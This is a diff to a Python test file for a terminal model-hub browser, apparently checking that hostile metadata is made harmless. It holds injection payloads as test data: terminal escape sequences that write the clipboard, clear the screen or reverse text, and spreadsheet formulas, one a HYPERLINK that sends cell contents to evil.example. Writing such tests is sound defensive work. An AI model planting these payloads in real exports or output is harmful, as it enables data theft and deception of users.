@@ -45,7 +45,8 @@ def hub():
 def hostile_item(name: str, text: str, big: bool) -> dict:
     item = make_model(f"acme/{name}", license="other", license_name=text, pipeline_tag=text[:40],
                       library_name=text[:40], extra_tags=(text[:60],), base_model=f"acme/{text[:30]}")
-    item["id"] = item["modelId"] = f"acme/{name}{text[:80]}"
+    # The id stays one the Hub could have: ids it could not have are dropped (see below), and
+    # this item is here to carry the hostile text into every other field.
     item["gated"] = text[:20] or False
     item["createdAt"] = text[:30]  # not a date at all
     item["downloads"] = text[:10]  # wrong type
@@ -110,7 +111,8 @@ async def test_explorer_shows_hostile_text_as_text(hub: FakeHub, fixture_catalog
     from qwen_tui.tui.app import QwenTuiApp
 
     hub.models.clear()
-    hub.put(hostile_item("evil", "[bold red]X[/]\x1b]52;c;ZXZpbA==\x07\x1b[2J\u202e", big=True))
+    # No space in the markup: the detail wraps at spaces, and the id no longer carries the text.
+    hub.put(hostile_item("evil", "[red]X[/]\x1b]52;c;ZXZpbA==\x07\x1b[2J\u202e", big=True))
     catalog = load_catalog([fixture_catalog_dir], bundled=False)
     store = Store.open(default_paths().cache_db)
     refresh(catalog, store, vendors=["acme"], endpoint=hub.url, settings=FAST)
@@ -126,4 +128,80 @@ async def test_explorer_shows_hostile_text_as_text(hub: FakeHub, fixture_catalog
         await pilot.pause()
         svg = app.export_screenshot()
     assert "\x1b" not in svg and "\u202e" not in svg and "\x07" not in svg
-    assert "[bold red]X[/]" in svg.replace("&#160;", " ")  # the brackets are shown, not applied
+    assert "[red]X[/]" in svg.replace("&#160;", " ")  # the brackets are shown, not applied
+
+
+# -- ids the Hub could not have, formulas, invisible characters, absurd numbers (issue 11 §3) ----
+
+def test_ids_the_hub_could_not_have_are_dropped_and_counted(hub: FakeHub, fixture_catalog_dir: Path,
+                                                            capsys: pytest.CaptureFixture[str]) -> None:
+    hub.models.clear()
+    hub.put(make_model("acme/Acme-1-7B"))
+    for bad in ('acme/=HYPERLINK("https://evil.example/?x="&A1)', "acme/Acme-1-7B\u200b", "acme/a--b",
+                "acme/x/y", "acme/" + "n" * 97):
+        item = make_model("acme/placeholder")
+        item["id"] = item["modelId"] = bad
+        hub.put(item)
+    hub.put(make_model("acme/Still-Fine_1.5"))
+    cat = ["--catalog", str(fixture_catalog_dir)]
+    assert main(["refresh", "--vendor", "acme", "--endpoint", hub.url, *cat]) == 0
+    out, _ = capsys.readouterr()
+    assert "dropped: 5 listed repos with an id the Hub could not have" in out
+    assert main(["list", "--status", "discovered", "--csv", *cat]) == 0
+    csv_out, _ = capsys.readouterr()
+    assert main(["list", "--status", "discovered", "--json", *cat]) == 0
+    ids = {e["id"] for e in json.loads(capsys.readouterr()[0])}
+    assert ids == {"acme/Still-Fine_1.5"}
+    assert "HYPERLINK" not in csv_out and "\u200b" not in csv_out
+
+
+def test_csv_cells_that_start_a_formula_are_neutralised(hub: FakeHub, fixture_catalog_dir: Path,
+                                                        capsys: pytest.CaptureFixture[str]) -> None:
+    import csv
+    import io
+
+    hub.models.clear()
+    for i, formula in enumerate(['=HYPERLINK("https://evil.example")', "+1+1", "-2+3", "@SUM(A1)"]):
+        hub.add(f"acme/Formula-{i}", license="other", license_name=formula)
+    cat = ["--catalog", str(fixture_catalog_dir)]
+    assert main(["refresh", "--vendor", "acme", "--endpoint", hub.url, *cat]) == 0
+    capsys.readouterr()
+    assert main(["list", "--status", "discovered", "--csv", *cat]) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr()[0])))
+    cells = [c for row in rows[1:] for c in row]
+    assert len(rows) == 5
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
+    assert "'=HYPERLINK(\"https://evil.example\")" in cells and "'@SUM(A1)" in cells
+
+
+@pytest.mark.parametrize("char", ["\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2028", "\u2029", "\ufeff"])
+def test_the_cleaner_drops_invisible_characters(char: str) -> None:
+    from qwen_tui.text import UNSAFE, clean
+
+    assert clean(f"01-ai/Yi-34B{char}") == "01-ai/Yi-34B"
+    assert UNSAFE.search(char)
+
+
+def test_absurd_numbers_and_unknown_gated_values_spoil_nothing(hub: FakeHub, fixture_catalog_dir: Path,
+                                                              capsys: pytest.CaptureFixture[str]) -> None:
+    hub.models.clear()
+    hub.add("acme/Acme-1-7B", children=2**63)
+    hub.add("acme/Acme-1-7B-Chat", children=-3)
+    hub.add("acme/Acme-2-1B", gated="yes")
+    hub.add("acme/Acme-2-70B", gated=True)
+    hub.add("acme/Acme-3-8B", gated="manual", children=4)
+    hub.update("acme/Acme-2-1B", downloads=2**80, likes=-1)
+    cat = ["--catalog", str(fixture_catalog_dir)]
+    assert main(["refresh", "--vendor", "acme", "--endpoint", hub.url, *cat]) == 0
+    capsys.readouterr()
+    store = Store.open_readonly(default_paths().cache_db)
+    assert store is not None
+    repos = {r.repo_id: r for r in store.repos(store.latest().id)}
+    store.close()
+    assert repos["acme/Acme-1-7B"].children is None and repos["acme/Acme-1-7B-Chat"].children is None
+    assert repos["acme/Acme-3-8B"].children == 4 and repos["acme/Acme-3-8B"].gated == "manual"
+    assert repos["acme/Acme-2-1B"].gated is None and repos["acme/Acme-2-70B"].gated is None
+    assert repos["acme/Acme-2-1B"].downloads is None and repos["acme/Acme-2-1B"].likes is None
+    assert main(["list", "--vendor", "acme", "--json", *cat]) == 0
+    out = capsys.readouterr()[0]
+    assert '"derivatives": -3' not in out and str(2**63) not in out
